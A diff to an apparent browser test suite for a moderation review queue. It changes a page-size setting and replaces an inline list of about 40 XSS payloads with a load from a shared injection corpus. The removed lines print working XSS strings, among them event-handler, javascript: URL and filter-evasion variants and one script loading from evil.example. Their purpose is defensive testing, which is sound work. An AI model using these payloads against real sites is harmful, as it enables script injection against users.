@@ -1,9 +1,10 @@
 """The review queue in real headless Chromium: log in, work the queue with the mouse and with the
-keyboard alone, bulk-reject, undo, see the audit entry, plain forms with JavaScript off, and 40
-XSS payloads rendered inert."""
+keyboard alone, bulk-reject, undo, see the audit entry, plain forms with JavaScript off, and the
+injection corpus's XSS payloads rendered inert."""
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -20,7 +21,7 @@ ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
 @pytest.fixture
 def site(make_app, password_hash):
     """The app on SQLite, served on a free loopback port; yields (app, base URL)."""
-    app = make_app(MODERATION_QUEUE_PAGE_SIZE="60")
+    app = make_app(MODERATION_QUEUE_PAGE_SIZE="100")
     with app.extensions["store"].engine.begin() as connection:
         connection.execute(insert(ModeratorRow), [
             {"name": "ann", "password_hash": password_hash, "active": True,
@@ -183,48 +184,9 @@ def test_plain_forms_work_with_javascript_off(site, browser):
         context.close()
 
 
-XSS = [
-    "<script>window.__xss=1;alert(1)</script>",
-    "<img src=x onerror=\"window.__xss=1;alert(1)\">",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<body onload=alert(1)>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
-    "<a href=\"javascript:alert(1)\">click</a>",
-    "<div onmouseover=\"alert(1)\">hover</div>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<object data=\"javascript:alert(1)\"></object>",
-    "<embed src=\"javascript:alert(1)\">",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "\"><script>alert(1)</script>",
-    "'><img src=x onerror=alert(1)>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
-    "<style>@import 'javascript:alert(1)';</style>",
-    "<link rel=stylesheet href=javascript:alert(1)>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<base href=\"javascript:alert(1)//\">",
-    "<form action=javascript:alert(1)><button>go</button></form>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<template><script>alert(1)</script></template>",
-    "{{7*7}} {% raw %}${alert(1)}{% endraw %}",
-    "javascript:alert(1)",
-    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
-    "<img srcset=\",,,,,x\" onerror=alert(1)>",
-    "<x contenteditable onblur=alert(1)>lose focus</x>",
-    "<script>document.body.insertAdjacentHTML('beforeend','<b id=injected>')</script>",
-    "<b id=injected>injected</b>",
-]
+# The XSS part of the shared injection corpus (tests/security/injection_payloads.json).
+XSS = json.loads((Path(__file__).resolve().parents[1] / "security" / "injection_payloads.json")
+                 .read_text())["xss"]
 
 
 def test_xss_payloads_render_inert(site, page):
